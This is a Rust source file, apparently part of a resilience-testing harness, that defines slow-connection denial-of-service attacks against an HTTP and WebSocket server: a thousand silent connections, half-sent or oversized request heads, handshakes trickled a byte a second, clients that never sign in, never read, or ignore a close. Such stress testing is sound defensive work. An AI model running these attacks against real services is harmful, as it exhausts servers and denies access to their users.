//! Attacks that hold on: connections that say nothing, or very little, and readers that do not read.

use std::time::Duration;

use crate::Attack;
use crate::Then::{Deaf, Listen, Trickle};
use crate::Way::{Http, SignedIn, Socket};
use crate::wire::{self, frame};

const A_SECOND: Duration = Duration::from_secs(1);

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "half-open",
        does: "opens a thousand connections and says nothing",
        connections: 1_000,
        way: Http,
        opening: |_, _| Vec::new(),
        then: Listen,
    },
    Attack {
        name: "half-a-head",
        does: "opens a thousand connections and sends half a request on each",
        connections: 1_000,
        way: Http,
        opening: |_, _| b"GET /ws HTTP/1.1\r\nHost: attacked\r\nUpgrade: web".to_vec(),
        then: Listen,
    },
    Attack {
        name: "large-half-heads",
        does: "opens connections and sends a head that is large and lacks its end",
        connections: 200,
        way: Http,
        opening: |_, _| {
            let mut head = b"GET /ws HTTP/1.1\r\nHost: attacked\r\nX-Bomb: ".to_vec();
            head.resize(120_000, b'x');
            head
        },
        then: Listen,
    },
    Attack {
        name: "slow-head",
        does: "sends a handshake a byte a second",
        connections: 200,
        way: Http,
        opening: |_, _| b"GET /ws HTTP/1.1\r\nHost: attacked\r\nX-Slow: ".to_vec(),
        then: Trickle(b'x', A_SECOND),
    },
    Attack {
        name: "no-sign-in",
        does: "shakes hands and never signs in, but stays lively: it begins a message and sends a byte a second of it",
        connections: 200,
        way: Socket,
        opening: |_, _| wire::declares(wire::TEXT, 60_000),
        then: Trickle(b'x', A_SECOND),
    },
    Attack {
        name: "slow-reader",
        does: "signs in, and reads nothing of what comes",
        connections: 50,
        way: SignedIn,
        opening: |_, _| Vec::new(),
        then: Deaf,
    },
    Attack {
        name: "slow-stream",
        does: "asks for server-sent events, and reads nothing of them",
        connections: 50,
        way: Http,
        opening: |target, _| {
            let request = format!(
                "GET /v1/events HTTP/1.1\r\nHost: attacked\r\nAccept: text/event-stream\r\nAuthorization: Bearer {}\r\n\r\n",
                target.token
            );
            request.into_bytes()
        },
        then: Deaf,
    },
    Attack {
        name: "no-goodbye",
        does: "is told of its close, and goes on sending instead of ending the connection",
        connections: 20,
        way: Socket,
        opening: |_, _| frame(wire::TEXT, b"not a message"),
        then: crate::Then::SendDeaf(|_| frame(wire::TEXT, &[b'x'; 16_000])),
    },
];
